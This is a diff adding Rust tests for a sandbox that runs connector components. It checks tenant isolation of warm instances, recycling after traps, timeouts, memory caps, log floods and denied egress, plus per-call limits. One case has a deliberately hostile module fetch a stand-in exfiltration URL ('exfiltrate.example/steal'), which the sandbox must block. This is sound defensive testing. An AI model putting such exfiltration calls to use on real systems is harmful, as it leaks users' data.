@@ -11,12 +11,17 @@ use junction_connector_kit::Webhook;
 use crate::support::{HOSTILE, SLOW_DESCRIBE, host};
 
 async fn hostile(allow_hosts: &[&str]) -> Connector {
+    hostile_with(allow_hosts, |_| {}).await
+}
+
+/// The hostile component with the sandbox's spec, changed by `edit`.
+async fn hostile_with(allow_hosts: &[&str], edit: impl FnOnce(&mut InstanceSpec)) -> Connector {
     let host = host();
     let module = host
         .load(HOSTILE, None)
         .await
         .expect("the hostile component loads");
-    let spec = InstanceSpec {
+    let mut spec = InstanceSpec {
         name: "hostile".into(),
         egress: EgressPolicy {
             allow_hosts: allow_hosts.iter().map(|h| h.to_string()).collect(),
@@ -32,6 +37,7 @@ async fn hostile(allow_hosts: &[&str]) -> Connector {
         },
         ..InstanceSpec::default()
     };
+    edit(&mut spec);
     host.instantiate(module, spec)
 }
 
@@ -485,4 +491,116 @@ async fn one_webhook_cannot_become_thousands_of_changes() {
         "{err:?}"
     );
     still_serves(&c).await;
+}
+
+/// What the hostile module's `/remember` found in its memory: how many calls its instance has
+/// served (this one included) and the body the previous `/remember` left there.
+async fn remember(c: &Connector, body: &str) -> (u64, String) {
+    let hook = Webhook {
+        method: "POST".into(),
+        path: "/remember".into(),
+        headers: vec![],
+        body: body.as_bytes().to_vec(),
+    };
+    let changes = c
+        .receive(&CallContext::default(), hook)
+        .await
+        .result
+        .expect("/remember answers");
+    let (calls, previous) = changes[0]
+        .key
+        .strip_prefix("calls=")
+        .and_then(|k| k.split_once(";previous="))
+        .expect("the key reads calls=N;previous=BODY");
+    (calls.parse().expect("a count"), previous.to_string())
+}
+
+/// Warm instances are reused, but only by the configuration that made them: a module keeping
+/// one tenant's data in its memory never shows it to another pipeline's connector, even one of
+/// the same module.
+#[tokio::test]
+async fn a_warm_instance_never_serves_another_configuration() {
+    let a = hostile_with(&[], |spec| {
+        spec.settings.insert("tenant".into(), "a".into());
+    })
+    .await;
+    let b = hostile_with(&[], |spec| {
+        spec.settings.insert("tenant".into(), "b".into());
+    })
+    .await;
+    assert_eq!(remember(&a, "secret of a").await, (1, String::new()));
+    // The same configuration gets its warm instance back, memory and all (so the test below
+    // would see a leak if there were one).
+    assert_eq!(remember(&a, "more of a").await, (2, "secret of a".into()));
+    assert_eq!(remember(&b, "secret of b").await, (1, String::new()));
+    assert_eq!(remember(&a, "last of a").await, (3, "more of a".into()));
+    assert_eq!(remember(&b, "more of b").await, (2, "secret of b".into()));
+    // A clone is the same configuration (the engine hands clones to its tasks).
+    assert_eq!(remember(&a.clone(), "clone").await, (4, "last of a".into()));
+    assert_eq!((a.pool_stats().created, b.pool_stats().created), (1, 1));
+}
+
+/// A call the host had to stop or refuse never leaves its instance for the next call: trap,
+/// deadline (computing, or blocked in a host call), memory cap (guest memory or host-side
+/// resources), log flood, refused request.
+#[tokio::test]
+async fn a_stopped_or_refused_call_recycles_its_instance() {
+    let cases: [(&str, &str, fn(&CallError) -> bool); 7] = [
+        ("/trap", "", |e| matches!(e, CallError::Trap(_))),
+        ("/loop", "", |e| matches!(e, CallError::Timeout(_))),
+        ("/wait", "", |e| matches!(e, CallError::Timeout(_))),
+        ("/memory", "", |e| matches!(e, CallError::MemoryLimit(_))),
+        ("/fields", "", |e| matches!(e, CallError::MemoryLimit(_))),
+        ("/log-flood", "", |e| matches!(e, CallError::LogFlood)),
+        ("/fetch", "https://exfiltrate.example/steal", |e| {
+            matches!(e, CallError::EgressDenied { .. })
+        }),
+    ];
+    for (path, body, expected) in cases {
+        let c = hostile(&["api.stripe.com"]).await;
+        assert_eq!(remember(&c, "before").await, (1, String::new()));
+        assert_eq!(remember(&c, "kept").await, (2, "before".into()), "{path}");
+        let err = misbehave(&c, path, body).await.unwrap_err();
+        assert!(expected(&err), "{path}: {err:?}");
+        assert_eq!(
+            remember(&c, "after").await,
+            (1, String::new()),
+            "{path}: the next call must run on a fresh instance"
+        );
+        let stats = c.pool_stats();
+        assert_eq!((stats.created, stats.recycled), (2, 1), "{path}");
+    }
+}
+
+/// An instance serves at most its reuse limit of calls, then a fresh one takes over; a limit of
+/// one is a fresh instance for every call.
+#[tokio::test]
+async fn an_instance_serves_at_most_its_reuse_limit() {
+    let c = hostile_with(&[], |spec| spec.limits.reuse_limit = 3).await;
+    for expected in [1, 2, 3, 1, 2, 3, 1] {
+        assert_eq!(remember(&c, "x").await.0, expected);
+    }
+    assert_eq!(c.pool_stats().created, 3);
+    let fresh = hostile_with(&[], |spec| spec.limits.reuse_limit = 1).await;
+    for _ in 0..3 {
+        assert_eq!(remember(&fresh, "x").await, (1, String::new()));
+    }
+}
+
+/// The log budget belongs to the call, not to the warm instance serving it.
+#[tokio::test]
+async fn each_call_on_a_warm_instance_has_its_own_log_budget() {
+    let c = hostile(&[]).await;
+    for _ in 0..3 {
+        let hook = Webhook {
+            method: "POST".into(),
+            path: "/log-300".into(),
+            headers: vec![],
+            body: vec![],
+        };
+        let called = c.receive(&CallContext::default(), hook).await;
+        assert_eq!(called.result, Ok(vec![]));
+        assert_eq!(called.logs_dropped, 100, "300 lines, 200 per call");
+    }
+    assert_eq!(c.pool_stats().created, 1);
 }
